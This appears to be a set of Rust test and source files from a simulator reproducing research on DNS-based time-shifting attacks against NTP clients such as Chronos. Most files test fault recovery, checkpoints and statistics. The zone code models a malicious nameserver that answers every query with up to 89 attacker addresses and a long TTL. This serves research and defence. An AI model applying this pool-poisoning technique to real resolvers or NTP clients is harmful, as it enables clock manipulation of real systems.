        d.update_line(&format!("{:?}", pool_server_at(scale.seed ^ salts::RATELIMIT_POP, idx)));
    }
    for idx in 0..ad_client_count(scale.ad_fraction) {
        d.update_line(&format!(
            "{:?}",
            ad_client_at(scale.seed ^ salts::TABLE5_POP, scale.ad_fraction, idx)
        ));
    }
    d.hex()
}

#[test]
fn lazy_specs_are_bit_identical_to_materialized_populations() {
    let scale = Scale::quick();
    let resolvers = open_resolvers(scale.resolvers, scale.seed);
    for (idx, spec) in resolvers.iter().enumerate() {
        assert_eq!(
            format!("{spec:?}"),
            format!("{:?}", open_resolver_at(scale.seed, idx)),
            "open resolver {idx}"
        );
    }
    let domains = domain_nameservers(scale.domains, scale.seed ^ salts::FIG5_POP);
    for (idx, spec) in domains.iter().enumerate() {
        assert_eq!(
            format!("{spec:?}"),
            format!("{:?}", domain_nameserver_at(scale.seed ^ salts::FIG5_POP, idx)),
            "domain nameserver {idx}"
        );
    }
    let clients = ad_clients_scaled(scale.seed ^ salts::TABLE5_POP, scale.ad_fraction);
    assert_eq!(clients.len(), ad_client_count(scale.ad_fraction));
    for (idx, spec) in clients.iter().enumerate() {
        assert_eq!(
            format!("{spec:?}"),
            format!("{:?}", ad_client_at(scale.seed ^ salts::TABLE5_POP, scale.ad_fraction, idx)),
            "ad client {idx}"
        );
    }
}

#[test]
fn quick_scale_population_digest_is_pinned() {
    // Golden value: regenerating it is a *population change* — every
    // campaign record and checkpoint digest downstream shifts with it, so
    // a failure here means "you changed the paper's populations", not
    // "update the constant and move on".
    assert_eq!(quick_population_digest(), "edb7afe6e202403d");
}

fn vm_hwm_kb(status: &str) -> Option<u64> {
    status
        .lines()
        .find(|l| l.starts_with("VmHWM:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
}

/// Coarse peak-RSS ceiling for the paper-scale memory tests: a lazy run
/// sits well under it, while materializing the 1 583 045 resolver specs
/// (~64 B each, >96 MiB before overhead) cannot fit.
const PEAK_RSS_LIMIT_KB: u64 = 96 * 1024;

#[test]
#[ignore = "paper scale; run with --ignored on Linux (/proc)"]
fn paper_scale_build_touches_full_index_space_in_bounded_memory() {
    let scale = Scale::paper();
    let scenario = registry::find("table4_snoop").expect("registered");
    let campaign = scenario.build(scale);
    assert_eq!(campaign.trials(), 1_583_045);
    // Touch a spread of trials across the whole 1.58 M index space; each
    // derives its resolver spec on demand.
    for idx in (0..campaign.trials()).step_by(97_651) {
        let record = campaign.run_trial(idx);
        assert_eq!(record.0.len(), scenario.schema.len());
    }
    let status = std::fs::read_to_string("/proc/self/status").expect("/proc/self/status");
    let hwm = vm_hwm_kb(&status).expect("VmHWM line");
    assert!(
        hwm < PEAK_RSS_LIMIT_KB,
        "peak RSS {hwm} kB: the lazy build must not materialize 1.58M specs"
    );
}

#[test]
#[ignore = "paper scale; run with --ignored on Linux (/proc)"]
fn paper_scale_worker_stays_within_memory_budget() {
    let scale = Scale::paper();
    let dir = std::env::temp_dir().join(format!("paper-scale-worker-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let checkpoint = dir.join("shard-0.ndjson");
    let _ = std::fs::remove_file(&checkpoint);

    // Shard 0 of 256 ≈ 6.2k of the 1.58M resolvers: long enough to sample
    // the worker's memory while it streams, short enough for a test.
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_campaign"))
        .args(["worker", "--scenario", "table4_snoop", "--shard", "0/256", "--skip", "0"])
        .arg("--checkpoint")
        .arg(&checkpoint)
        .args(["--scale-spec", &exec::scale_spec(&scale)])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::inherit())
        .spawn()
        .expect("spawn worker");

    let status_path = format!("/proc/{}/status", child.id());
    let mut peak_kb = 0u64;
    loop {
        if let Ok(s) = std::fs::read_to_string(&status_path) {
            if let Some(kb) = vm_hwm_kb(&s) {
                peak_kb = peak_kb.max(kb);
            }
        }
        if let Some(status) = child.try_wait().expect("wait") {
            assert!(status.success(), "worker failed: {status}");
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
    assert!(peak_kb > 0, "never sampled the worker's memory");
    assert!(
        peak_kb < PEAK_RSS_LIMIT_KB,
        "worker peak RSS {peak_kb} kB: paper-scale shards must not materialize the population"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
