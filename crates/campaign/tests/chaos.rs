//! The supervision chaos matrix: every injectable fault × retry depth
//! must heal to a merged digest **bit-identical** to the fault-free run,
//! and a shard that exhausts its retry budget must degrade into a partial
//! summary with an accurate coverage report — never an abort.
//!
//! `chronos_bound` (24 pure-arithmetic trials over 3 shards) keeps each
//! cell cheap; the faults land on shard 1 so shards 0 and 2 double as
//! healthy bystanders whose leases must be unaffected.

use std::path::PathBuf;

use campaign::exec::{run_campaign, CampaignConfig, ExecMode};
use campaign::faults::FaultPlan;
use campaign::supervisor::{run_supervised, SupervisedRun, SupervisorConfig};
use campaign::{checkpoint, registry};
use timeshift::experiments::Scale;

fn campaign_exe() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_campaign"))
}

fn tmp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("campaign-chaos-{}-{tag}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    dir
}

fn config(dir: PathBuf) -> CampaignConfig {
    CampaignConfig {
        scenario: registry::find("chronos_bound").expect("registered"),
        scale: Scale::quick(),
        scale_label: "quick".into(),
        shards: 3,
        workers: 3,
        mode: ExecMode::Subprocess { exe: campaign_exe() },
        dir,
        verbose: false,
    }
}

/// A fast supervision clock for tests: 10 ms ticks, 400 ms stall timeout.
fn sup(max_retries: usize, faults: FaultPlan) -> SupervisorConfig {
    SupervisorConfig {
        max_retries,
        worker_timeout_ms: 400,
        poll_interval_ms: 10,
        faults,
        ..SupervisorConfig::default()
    }
}

/// The fault-free reference digest (in-process run — also pins that
/// supervision itself never changes results).
fn baseline_digest() -> String {
    let dir = tmp_dir("baseline");
    let cfg = CampaignConfig { mode: ExecMode::InProcess, ..config(dir.clone()) };
    let summary = run_campaign(&cfg).expect("baseline runs");
    std::fs::remove_dir_all(dir).ok();
    summary.digest
}

fn run_with_faults(tag: &str, max_retries: usize, faults: FaultPlan) -> SupervisedRun {
    let dir = tmp_dir(tag);
    let cfg = config(dir.clone());
    let run = run_supervised(&cfg, &campaign_exe(), &sup(max_retries, faults))
        .expect("supervised run settles (heal or quarantine, never abort)");
    std::fs::remove_dir_all(dir).ok();
    run
}

/// A clean supervised run equals the bare run bit-for-bit.
#[test]
fn supervised_clean_run_matches_bare_digest() {
    let baseline = baseline_digest();
    let run = run_with_faults("clean", 2, FaultPlan::none());
    assert!(run.summary.complete);
    assert_eq!(run.summary.digest, baseline);
    assert!(run.summary.coverage.iter().all(|c| c.complete && !c.quarantined));
    assert!(run.reports.iter().all(|r| r.attempts == 1 && r.failures.is_empty()));
}

/// The acceptance matrix: each fault kind × {1, 2} consecutive injections
/// heals under `max_retries = 2` to the fault-free digest, with the
/// expected number of observed failures on the faulted shard.
#[test]
fn every_fault_and_retry_depth_heals_to_an_identical_digest() {
    let baseline = baseline_digest();
    for spec in ["crash-after=1", "stall-after=0", "torn-write=1", "garbage-record=1", "exit=7"] {
        for times in [1usize, 2] {
            let mut faults = FaultPlan::none();
            faults.push_cli(&format!("1:{spec}:x{times}")).expect("valid fault entry");
            let run = run_with_faults(&format!("heal-{spec}-x{times}"), 2, faults);
            let label = format!("{spec} x{times}");
            assert!(run.summary.complete, "{label}: run must heal to completion");
            assert_eq!(
                run.summary.digest, baseline,
                "{label}: healed digest must be bit-identical to the fault-free run"
            );
            let report =
                run.reports.iter().find(|r| r.shard == 1).expect("faulted shard has a report");
            assert!(!report.quarantined, "{label}: shard must heal, not quarantine");
            assert_eq!(
                report.failures.len(),
                times,
                "{label}: one observed failure per injection, got {:?}",
                report.failures
            );
            assert_eq!(report.attempts, times + 1, "{label}: injections + one clean attempt");
            for r in run.reports.iter().filter(|r| r.shard != 1) {
                assert!(
                    r.failures.is_empty() && r.attempts <= 1,
                    "bystander shard {} was disturbed: {:?}",
                    r.shard,
                    r.failures
                );
            }
        }
    }
}

/// Exhausting the retry budget quarantines the shard and degrades to a
/// partial summary whose coverage report is accurate — the run never
/// aborts.
#[test]
fn exhausted_retries_quarantine_into_an_accurate_partial_summary() {
    let mut faults = FaultPlan::none();
    // Three consecutive crashes before any record, against a budget of
    // 1 + 2 retries: every attempt fails, the shard quarantines empty.
    faults.push_cli("1:crash-after=0:x3").expect("valid fault entry");
    let dir = tmp_dir("quarantine");
    let cfg = config(dir.clone());
    let run = run_supervised(&cfg, &campaign_exe(), &sup(2, faults))
        .expect("quarantine degrades, never aborts");

    assert!(!run.summary.complete, "a quarantined shard must mark the summary partial");
    let per_shard = 24 / 3;
    assert_eq!(run.summary.records, 2 * per_shard, "two healthy shards still merged");
    let cov = &run.summary.coverage[1];
    assert!(cov.quarantined && !cov.complete);
    assert_eq!((cov.planned, cov.records), (per_shard, 0));
    assert_eq!(cov.attempts, 3, "first lease + two retries");
    let last = cov.last_error.as_deref().expect("coverage carries the final failure");
    assert!(last.contains("101"), "final failure names the crash exit: {last}");
    for k in [0usize, 2] {
        let c = &run.summary.coverage[k];
        assert!(c.complete && !c.quarantined && c.records == per_shard);
    }

    // The partial summary.json is written, well-formed, and says so.
    let json = std::fs::read_to_string(checkpoint::summary_path(&dir)).expect("summary.json");
    bench::json::validate(&json).expect("partial summary.json must stay well-formed");
    assert!(json.contains("\"complete\": false"));
    assert!(json.contains("\"quarantined\": true"));
    std::fs::remove_dir_all(dir).ok();
}

/// `--trace-dir` dumps each shard's supervision flight-recorder ring:
/// the quarantined shard's trace must contain the injected fault's event
/// chain (lease → crash ×3 → quarantine) while healthy bystanders show
/// a single undisturbed lease.
#[test]
fn trace_dump_records_the_fault_chain_of_a_quarantined_shard() {
    let mut faults = FaultPlan::none();
    faults.push_cli("1:crash-after=0:x3").expect("valid fault entry");
    let dir = tmp_dir("tracedump");
    let trace_dir = dir.join("traces");
    let cfg = config(dir.clone());
    let sup_cfg = SupervisorConfig { trace_dir: Some(trace_dir.clone()), ..sup(2, faults) };
    let run = run_supervised(&cfg, &campaign_exe(), &sup_cfg).expect("quarantine run settles");
    assert!(!run.summary.complete);

    let faulted =
        std::fs::read_to_string(trace_dir.join("shard-1.trace")).expect("faulted shard trace");
    assert!(faulted.contains("# flight recorder:"), "dump has the ring header:\n{faulted}");
    assert_eq!(
        faulted.matches("kind=lease-granted").count(),
        3,
        "one lease per attempt:\n{faulted}"
    );
    assert_eq!(
        faulted.matches("kind=worker-crash").count(),
        3,
        "each injected crash is recorded:\n{faulted}"
    );
    assert!(faulted.contains("kind=shard-quarantined"), "quarantine is recorded:\n{faulted}");
    assert!(!faulted.contains("kind=shard-healed"), "a quarantined shard never heals");
    for k in [0usize, 2] {
        let trace = std::fs::read_to_string(trace_dir.join(format!("shard-{k}.trace")))
            .expect("bystander shard trace");
        assert_eq!(
            trace.matches("kind=lease-granted").count(),
            1,
            "bystander shard {k} leased exactly once:\n{trace}"
        );
        for bad in ["worker-crash", "worker-stall", "stream-corrupt", "shard-quarantined"] {
            assert!(!trace.contains(bad), "bystander shard {k} saw {bad}:\n{trace}");
        }
    }
    std::fs::remove_dir_all(dir).ok();
}

/// A quarantined shard's directory remains resumable: a later supervised
/// run without the fault re-leases just the quarantined shard and
/// completes the campaign with the reference digest.
#[test]
fn quarantined_shard_heals_on_a_later_fault_free_run() {
    let baseline = baseline_digest();
    let mut faults = FaultPlan::none();
    faults.push_cli("2:exit=9:x3").expect("valid fault entry");
    let dir = tmp_dir("requarantine");
    let cfg = config(dir.clone());
    let first =
        run_supervised(&cfg, &campaign_exe(), &sup(2, faults)).expect("quarantine run settles");
    assert!(!first.summary.complete);

    let second = run_supervised(&cfg, &campaign_exe(), &sup(2, FaultPlan::none()))
        .expect("follow-up run settles");
    assert!(second.summary.complete, "the retry run must finish the quarantined shard");
    assert_eq!(second.summary.digest, baseline, "healed campaign digest matches fault-free run");
    // Only the quarantined shard needed work the second time round.
    assert_eq!(
        second.reports.iter().map(|r| r.shard).collect::<Vec<_>>(),
        vec![2],
        "healthy shards must not re-run"
    );
    std::fs::remove_dir_all(dir).ok();
}
