//! Checkpoint recovery under arbitrary corruption: truncate or garble a
//! valid checkpoint at **every byte offset** and recovery must yield a
//! clean prefix of the original stream or a quarantine signal — never a
//! wrong record. This is the safety property the self-healing supervisor
//! leans on: whatever a dying worker leaves behind, the retry resumes
//! from bytes that are provably a prefix of the true stream.

use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};

use campaign::checkpoint::{self, Recovery};
use campaign::record::{encode_line, Field, FieldKind, Record, Schema, Value};
use proptest::prelude::*;

/// Numeric-only schema: its encoded lines never contain `#`, so garbling
/// a byte to `#` always produces an invalid line (a digit flipped to
/// another digit would be a *valid but wrong* record — exactly the
/// ambiguity this schema rules out).
const SCHEMA: &Schema =
    &[Field { name: "x", kind: FieldKind::U64 }, Field { name: "y", kind: FieldKind::F64 }];

static CASE: AtomicUsize = AtomicUsize::new(0);

/// A fresh path for one recovery case (unique so a quarantine's `.corrupt`
/// file never leaks into the next case).
fn case_path(dir: &std::path::Path) -> PathBuf {
    checkpoint::shard_path(dir, CASE.fetch_add(1, Ordering::Relaxed))
}

fn tmp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ckpt-props-{}-{tag}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    std::fs::create_dir_all(&dir).expect("mkdir");
    dir
}

/// `records` encoded lines (newline-terminated), plus each line's byte
/// length.
fn valid_checkpoint(records: usize) -> (Vec<u8>, Vec<usize>) {
    let mut bytes = Vec::new();
    let mut line_lens = Vec::new();
    for i in 0..records {
        let rec = Record(vec![
            Value::U64((i as u64).wrapping_mul(0x9E37_79B9)),
            Value::F64(i as f64 * -499.25 + 0.125),
        ]);
        let line = encode_line(SCHEMA, &rec);
        assert!(!line.contains('#'), "schema must keep '#' out of encoded lines");
        line_lens.push(line.len() + 1);
        bytes.extend_from_slice(line.as_bytes());
        bytes.push(b'\n');
    }
    (bytes, line_lens)
}

/// The byte length of the first `k` full lines.
fn prefix_len(line_lens: &[usize], k: usize) -> usize {
    line_lens[..k].iter().sum()
}

/// Asserts the recovery outcome for `mutated` (a mutation of `original`)
/// is safe: a clean prefix of the original bytes, or a quarantine that
/// preserved the mutated bytes aside. Returns the recovery for callers
/// that also pin the exact outcome.
fn assert_safe_recovery(
    path: &std::path::Path,
    original: &[u8],
    line_lens: &[usize],
    mutated: &[u8],
) -> Recovery {
    std::fs::write(path, mutated).expect("write case");
    let recovery = checkpoint::recover(path, SCHEMA).expect("recover never errors on corruption");
    match &recovery {
        Recovery::Clean(k) => {
            assert!(*k <= line_lens.len(), "recovered more records than ever existed");
            let content = std::fs::read(path).expect("read recovered file");
            assert_eq!(
                content,
                &original[..prefix_len(line_lens, *k)],
                "recovered file must be byte-for-byte the first {k} original lines"
            );
        }
        Recovery::Quarantined { quarantined_to, line } => {
            assert!(!path.exists(), "quarantine must move the corrupt file aside");
            let aside = std::fs::read(quarantined_to).expect("read quarantined file");
            assert_eq!(aside, mutated, "quarantine must preserve the corrupt bytes");
            assert!(*line >= 1 && *line <= line_lens.len(), "corrupt line within the file");
        }
    }
    recovery
}

/// Truncation at every byte offset: recovery is always `Clean` with
/// exactly the full lines the truncation kept.
#[test]
fn truncation_at_every_offset_yields_the_exact_clean_prefix() {
    let (original, line_lens) = valid_checkpoint(6);
    let dir = tmp_dir("trunc");
    for off in 0..=original.len() {
        let path = case_path(&dir);
        let mutated = &original[..off];
        let recovery = assert_safe_recovery(&path, &original, &line_lens, mutated);
        let kept_lines = mutated.iter().filter(|&&b| b == b'\n').count();
        assert_eq!(
            recovery,
            Recovery::Clean(kept_lines),
            "truncation at byte {off} must keep exactly the complete lines"
        );
    }
    std::fs::remove_dir_all(dir).ok();
}

/// Garbling one byte to `#` at every offset: recovery is a clean prefix
/// that never includes the garbled byte, or a quarantine.
#[test]
fn garble_at_every_offset_never_yields_a_wrong_record() {
    let (original, line_lens) = valid_checkpoint(5);
    let dir = tmp_dir("garble");
    for off in 0..original.len() {
        let path = case_path(&dir);
        let mut mutated = original.clone();
        mutated[off] = b'#';
        let recovery = assert_safe_recovery(&path, &original, &line_lens, &mutated);
        if let Recovery::Clean(k) = recovery {
            // The clean prefix must stop before the garbled byte.
            assert!(
                prefix_len(&line_lens, k) <= off,
                "garble at byte {off} leaked into a 'clean' prefix of {k} records"
            );
        }
    }
    std::fs::remove_dir_all(dir).ok();
}

proptest! {
    /// Randomised generalisation: any single-byte overwrite at any offset
    /// in a checkpoint of any small size recovers to a clean prefix or a
    /// quarantine — even when the overwrite byte happens to keep the line
    /// valid (in which case the only safe `Clean` is one whose bytes
    /// still literally match the original prefix).
    #[test]
    fn random_byte_overwrites_recover_safely(
        records in 1usize..8,
        off_seed in any::<usize>(),
        byte in any::<u8>(),
    ) {
        let (original, line_lens) = valid_checkpoint(records);
        let off = off_seed % original.len();
        let mut mutated = original.clone();
        mutated[off] = byte;
        let dir = tmp_dir("prop-garble");
        let path = case_path(&dir);
        if mutated == original {
            // Overwrote a byte with itself: recovery must be a full clean read.
            std::fs::write(&path, &mutated).expect("write case");
            let r = checkpoint::recover(&path, SCHEMA).expect("recover");
            prop_assert_eq!(r, Recovery::Clean(records));
        } else if byte != b'\n' && mutated.iter().filter(|&&b| b == b'\n').count()
            == original.iter().filter(|&&b| b == b'\n').count()
        {
            // Same line structure: the mutated line either still decodes
            // (rare — e.g. a digit swap) or recovery stays on the safe side.
            // Either way the recovered bytes must be a prefix of SOME
            // consistent stream; we only require safety w.r.t. the original
            // when the mutation is detectable.
            std::fs::write(&path, &mutated).expect("write case");
            let r = checkpoint::recover(&path, SCHEMA).expect("recover");
            if let Recovery::Clean(k) = r {
                let content = std::fs::read(&path).expect("read");
                prop_assert_eq!(&content, &mutated[..content.len()]);
                prop_assert!(k <= records);
            }
        } else {
            assert_safe_recovery(&path, &original, &line_lens, &mutated);
        }
        std::fs::remove_dir_all(dir).ok();
    }

    /// Randomised truncation: any cut offset recovers to exactly the
    /// complete lines before the cut.
    #[test]
    fn random_truncations_recover_the_exact_prefix(
        records in 1usize..8,
        off_seed in any::<usize>(),
    ) {
        let (original, line_lens) = valid_checkpoint(records);
        let off = off_seed % (original.len() + 1);
        let dir = tmp_dir("prop-trunc");
        let path = case_path(&dir);
        let recovery = assert_safe_recovery(&path, &original, &line_lens, &original[..off]);
        let kept = original[..off].iter().filter(|&&b| b == b'\n').count();
        prop_assert_eq!(recovery, Recovery::Clean(kept));
        std::fs::remove_dir_all(dir).ok();
    }
}
