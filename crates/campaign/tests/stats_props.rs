//! Property tests for the streaming aggregator: the online estimators
//! must track exact batch computation — exactly for count/mean/extremes,
//! within bounded error for the P² quantiles — and the record codec must
//! round-trip arbitrary values.

use campaign::prelude::*;
use campaign::record::{decode_line, encode_line, opt};
use campaign::stats::exact_quantile;
use proptest::prelude::*;

proptest! {
    /// Welford vs. exact batch: count and extremes exact, mean to within
    /// float-fold tolerance, variance close.
    #[test]
    fn welford_matches_batch_computation(
        samples in proptest::collection::vec(-1.0e6f64..1.0e6, 1..400),
    ) {
        let mut w = Welford::default();
        for &x in &samples {
            w.push(x);
        }
        prop_assert_eq!(w.count(), samples.len() as u64);
        let n = samples.len() as f64;
        let mean = samples.iter().sum::<f64>() / n;
        let var = samples.iter().map(|x| (x - mean).powi(2)).sum::<f64>() / n;
        let min = samples.iter().copied().fold(f64::INFINITY, f64::min);
        let max = samples.iter().copied().fold(f64::NEG_INFINITY, f64::max);
        prop_assert_eq!(w.min(), min);
        prop_assert_eq!(w.max(), max);
        prop_assert!((w.mean() - mean).abs() <= 1e-9 * (1.0 + mean.abs()),
            "welford mean {} vs batch {}", w.mean(), mean);
        prop_assert!((w.variance() - var).abs() <= 1e-6 * (1.0 + var.abs()),
            "welford var {} vs batch {}", w.variance(), var);
    }

    /// P² quantile estimates vs. exact batch quantiles over uniform
    /// samples: always inside the observed range, and within a bounded
    /// error that tightens as the stream grows.
    #[test]
    fn p2_quantiles_track_batch_quantiles(
        samples in proptest::collection::vec(0.0f64..1.0, 5..500),
        p_sel in 0usize..3,
    ) {
        let p = [0.5, 0.9, 0.99][p_sel];
        let mut q = P2Quantile::new(p);
        for &x in &samples {
            q.push(x);
        }
        let est = q.estimate().expect("samples seen");
        let mut sorted = samples.clone();
        sorted.sort_by(f64::total_cmp);
        let exact = exact_quantile(&sorted, p);
        prop_assert!(est >= sorted[0] && est <= sorted[sorted.len() - 1],
            "estimate {est} outside observed range");
        // Error bound for uniform streams: generous at 5 samples,
        // tightening with n (and looser for the extreme p99).
        let n = samples.len() as f64;
        let tolerance = (2.0 / n.sqrt() + 0.05) * if p > 0.95 { 2.0 } else { 1.0 };
        prop_assert!((est - exact).abs() <= tolerance,
            "p{}: estimate {est} vs exact {exact} (n={}, tol={tolerance})",
            (p * 100.0) as u32, samples.len());
    }

    /// Small streams (at or below the five P² markers) are exactly the
    /// batch nearest-rank quantile.
    #[test]
    fn p2_small_streams_are_exact(
        samples in proptest::collection::vec(-50.0f64..50.0, 1..6),
        p_sel in 0usize..3,
    ) {
        let p = [0.5, 0.9, 0.99][p_sel];
        let mut q = P2Quantile::new(p);
        for &x in &samples {
            q.push(x);
        }
        let mut sorted = samples.clone();
        sorted.sort_by(f64::total_cmp);
        prop_assert_eq!(q.estimate().expect("seen"), exact_quantile(&sorted, p));
    }

    /// Wilson 95% intervals bracket the empirical rate and stay in [0,1].
    #[test]
    fn wilson_brackets_the_rate(successes in 0u64..500, extra in 0u64..500) {
        let n = successes + extra;
        let (lo, hi) = wilson95(successes, n);
        prop_assert!((0.0..=1.0).contains(&lo) && (0.0..=1.0).contains(&hi));
        prop_assert!(lo <= hi);
        if n > 0 {
            let rate = successes as f64 / n as f64;
            prop_assert!(lo <= rate && rate <= hi, "({lo}, {hi}) excludes {rate}");
        }
    }

    /// StreamHist vs. an independent linear-scan bucket oracle. Samples,
    /// origin and width are integer-valued so the float arithmetic is
    /// exact and bucket edges are unambiguous (fractional edges are
    /// covered by the unit tests in `runner::hist`).
    #[test]
    fn stream_hist_matches_linear_scan_oracle(
        lo in -100i32..100,
        width in 1u32..10,
        bins in 1usize..40,
        samples in proptest::collection::vec(-500i32..500, 0..300),
    ) {
        let lo = f64::from(lo);
        let width = f64::from(width);
        let mut h = StreamHist::new(lo, width, bins);
        for &s in &samples {
            h.push(f64::from(s));
        }
        let mut expect = vec![0u64; bins];
        for &s in &samples {
            let x = f64::from(s);
            let mut idx = bins - 1; // above the top edge clamps high
            if x <= lo {
                idx = 0;
            } else {
                for i in 0..bins {
                    if x < lo + (i + 1) as f64 * width {
                        idx = i;
                        break;
                    }
                }
            }
            expect[idx] += 1;
        }
        prop_assert_eq!(h.counts(), expect.as_slice());
        prop_assert_eq!(h.count(), samples.len() as u64);
    }

    /// Sharded StreamHist merge == single stream, with the shard merge
    /// applied in reverse order (merge is commutative + associative, so
    /// shard placement must never matter).
    #[test]
    fn stream_hist_sharded_merge_matches_single_stream(
        samples in proptest::collection::vec(-200i32..200, 0..300),
        chunk in 1usize..50,
    ) {
        let mut whole = StreamHist::new(-64.0, 8.0, 16);
        for &s in &samples {
            whole.push(f64::from(s));
        }
        let mut merged = StreamHist::new(-64.0, 8.0, 16);
        for part in samples.chunks(chunk).rev() {
            let mut shard = StreamHist::new(-64.0, 8.0, 16);
            for &s in part {
                shard.push(f64::from(s));
            }
            merged.merge(&shard);
        }
        prop_assert_eq!(&merged, &whole);
    }

    /// RankSketch vs. exact nearest-rank quantiles: the log-bucket keys
    /// are exact counters, so the estimate is within the configured
    /// relative error of the exact batch quantile — for every stream.
    #[test]
    fn rank_sketch_tracks_exact_quantiles(
        samples in proptest::collection::vec(-1.0e4f64..1.0e4, 1..400),
        p_sel in 0usize..4,
    ) {
        let p = [0.1, 0.5, 0.9, 0.99][p_sel];
        let mut sk = RankSketch::default_error();
        for &x in &samples {
            sk.push(x);
        }
        let est = sk.quantile(p).expect("samples seen");
        let mut sorted = samples.clone();
        sorted.sort_by(f64::total_cmp);
        let exact = exact_quantile(&sorted, p);
        prop_assert!((est - exact).abs() <= 0.01 * exact.abs() + 1e-9,
            "p{}: estimate {est} vs exact {exact} (n={})",
            (p * 100.0) as u32, samples.len());
    }

    /// Sharded RankSketch merge is *bit-identical* to the single-stream
    /// sketch (bucket counters add exactly), independent of shard order.
    #[test]
    fn rank_sketch_sharded_merge_matches_single_stream(
        samples in proptest::collection::vec(-1.0e3f64..1.0e3, 0..300),
        chunk in 1usize..50,
    ) {
        let mut whole = RankSketch::default_error();
        for &x in &samples {
            whole.push(x);
        }
        let mut merged = RankSketch::default_error();
        for part in samples.chunks(chunk).rev() {
            let mut shard = RankSketch::default_error();
            for &x in part {
                shard.push(x);
            }
            merged.merge(&shard);
        }
        prop_assert_eq!(&merged, &whole);
    }

    /// Record lines round-trip arbitrary values bit-exactly.
    #[test]
    fn record_lines_round_trip(
        flag in any::<bool>(),
        count in any::<u64>(),
        bits in any::<u64>(),
        label in "[a-z\"\\\\ ]{0,12}",
        null_mask in 0u8..16,
    ) {
        const SCHEMA: &Schema = &[
            Field { name: "flag", kind: FieldKind::Bool },
            Field { name: "count", kind: FieldKind::U64 },
            Field { name: "x", kind: FieldKind::F64 },
            Field { name: "label", kind: FieldKind::Str },
        ];
        // Arbitrary bit patterns can be NaN/inf (which encode as null by
        // design); keep the float finite so equality is well-defined.
        let x = f64::from_bits(bits);
        let x = if x.is_finite() { x } else { 0.25 };
        let pick = |i: u8, v: Value| if null_mask & (1 << i) != 0 { Value::Null } else { v };
        let record = Record(vec![
            pick(0, flag.into()),
            pick(1, count.into()),
            pick(2, x.into()),
            pick(3, label.clone().into()),
        ]);
        let line = encode_line(SCHEMA, &record);
        let back = decode_line(SCHEMA, &line)
            .map_err(|e| TestCaseError(format!("{e} in {line}")))?;
        prop_assert_eq!(back, record);
        // And nullability helpers agree with the mask.
        prop_assert_eq!(opt(None::<u64>), Value::Null);
    }
}
