//! DNS error types.

use core::fmt;

/// Errors from DNS name handling, message codecs and server logic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DnsError {
    /// A domain name violated length or syntax rules.
    BadName {
        /// Human-readable reason.
        reason: &'static str,
    },
    /// Wire input ended prematurely.
    Truncated {
        /// What was being decoded.
        context: &'static str,
    },
    /// A compression pointer loop or out-of-range pointer.
    BadPointer,
    /// A field held an unrepresentable value.
    BadField {
        /// Which field.
        field: &'static str,
    },
    /// Message would exceed the 64 KiB UDP limit.
    Oversize {
        /// Attempted size.
        len: usize,
    },
    /// The message is not a well-formed query/response for this operation.
    BadMessage {
        /// Human-readable reason.
        reason: &'static str,
    },
}

impl fmt::Display for DnsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DnsError::BadName { reason } => write!(f, "bad name: {reason}"),
            DnsError::Truncated { context } => {
                write!(f, "truncated message while decoding {context}")
            }
            DnsError::BadPointer => write!(f, "bad or looping compression pointer"),
            DnsError::BadField { field } => write!(f, "invalid field: {field}"),
            DnsError::Oversize { len } => write!(f, "message too large: {len} bytes"),
            DnsError::BadMessage { reason } => write!(f, "bad message: {reason}"),
        }
    }
}

impl std::error::Error for DnsError {}
