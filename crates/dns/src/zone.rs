//! Authoritative zone data and answer policies.
//!
//! The central zone in the reproduction is `pool.ntp.org`: it answers A
//! queries with 4 addresses drawn round-robin from the pool (TTL 150 s, as
//! the paper measured) and lists its nameservers with glue. The attacker's
//! nameserver is a zone with a [`AnswerPolicy::Wildcard`] handing out up to
//! 89 attacker addresses per response (§VI).

use netsim::fasthash::FastMap;
use std::net::Ipv4Addr;

use crate::dnssec::ZoneKey;
use crate::name::Name;
use crate::record::{Record, RecordType};

/// The TTL of `pool.ntp.org` A records observed by the paper (§IV-A).
pub const POOL_A_TTL: u32 = 150;
/// Addresses returned per pool query.
pub const POOL_ADDRS_PER_RESPONSE: usize = 4;

/// How a zone answers A queries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AnswerPolicy {
    /// Answer from the static record store only.
    Static,
    /// `pool.ntp.org`-style rotation: any A query for one of `names` is
    /// answered with `per_response` addresses drawn uniformly at random
    /// without replacement from `addrs` — the observable behaviour of the
    /// real pool's GeoDNS, and the reason Chronos spreads its lookups to
    /// accumulate distinct servers.
    Rotate {
        /// Names that rotate (the origin and `0..3.` children, typically).
        names: Vec<Name>,
        /// The full pool of addresses.
        addrs: Vec<Ipv4Addr>,
        /// Addresses per response.
        per_response: usize,
        /// TTL on the rotated answers.
        ttl: u32,
    },
    /// Malicious-nameserver mode: answer **any** A query under the origin
    /// with (up to) `per_response` of `addrs` — the attacker feeding 89
    /// addresses into Chronos' pool.
    Wildcard {
        /// Attacker-controlled addresses.
        addrs: Vec<Ipv4Addr>,
        /// Addresses per response.
        per_response: usize,
        /// TTL — the Chronos attack sets this above 24 h.
        ttl: u32,
    },
}

/// An authoritative zone.
#[derive(Debug, Clone)]
pub struct Zone {
    /// The zone apex.
    pub origin: Name,
    /// DNSSEC-lite signing key; `None` for the (typical) unsigned zone.
    pub key: Option<ZoneKey>,
    /// Answer policy for A queries.
    pub policy: AnswerPolicy,
    records: FastMap<(Name, RecordType), Vec<Record>>,
}

impl Zone {
    /// Creates an empty, unsigned, static zone.
    pub fn new(origin: Name) -> Self {
        Zone { origin, key: None, policy: AnswerPolicy::Static, records: FastMap::default() }
    }

    /// Adds a record to the store.
    ///
    /// # Panics
    ///
    /// Panics if the record's owner is outside the zone.
